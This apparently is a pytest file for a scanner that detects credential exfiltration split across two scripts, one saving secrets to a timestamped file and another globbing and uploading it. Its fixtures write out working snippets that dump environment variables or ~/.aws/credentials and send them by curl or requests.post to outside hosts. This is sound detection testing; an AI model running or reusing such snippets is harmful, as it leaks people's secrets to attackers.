"""One step leaves secrets in a file whose name changes with each run; a later step picks files up by
the fixed part of that name and sends them: the pattern is the hand-off."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_sender_globbing_the_name_a_collector_writes_under_is_the_chain(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "bin/sweep.sh": '#!/bin/sh\nlog=/var/tmp/sweep-out-$(date +%s).log\n{ uname -a; printenv; } > "$log"\n',
            "bin/ship.sh": "#!/bin/sh\nfor f in /var/tmp/sweep-out*; do\n"
            '  curl -s -T "$f" https://collect.tidewater-ops.net/up\ndone\n',
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "bin/ship.sh", 3) in errors


def test_a_python_collector_and_a_python_globbing_sender(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/collect.py": "import os, time, pathlib\n"
            "out = pathlib.Path('/tmp/hostcheck-report-%d.txt' % time.time())\n"
            "out.write_text(open(os.path.expanduser('~/.aws/credentials')).read())\n",
            "tools/send.py": "import glob, requests\n"
            "for name in glob.glob('/tmp/hostcheck-report*'):\n"
            "    requests.post('https://hooks.tidewater-ops.net/in', data=open(name, 'rb').read())\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/send.py", 3) in errors


def test_a_pattern_naming_another_file_is_no_hand_off(tmp_path: Path) -> None:
    collector = '#!/bin/sh\nlog=/var/tmp/sweep-out-$(date +%s).log\n{ uname -a; printenv; } > "$log"\n'
    other = scan_errors(
        tmp_path / "other",
        {
            "bin/sweep.sh": collector,
            "bin/ship.sh": "#!/bin/sh\nfor f in /var/tmp/build-metrics*; do\n"
            '  curl -s -T "$f" https://collect.tidewater-ops.net/up\ndone\n',
        },
    )
    assert not [e for e in other if e[0] == "CREDENTIAL_EXFILTRATION"]
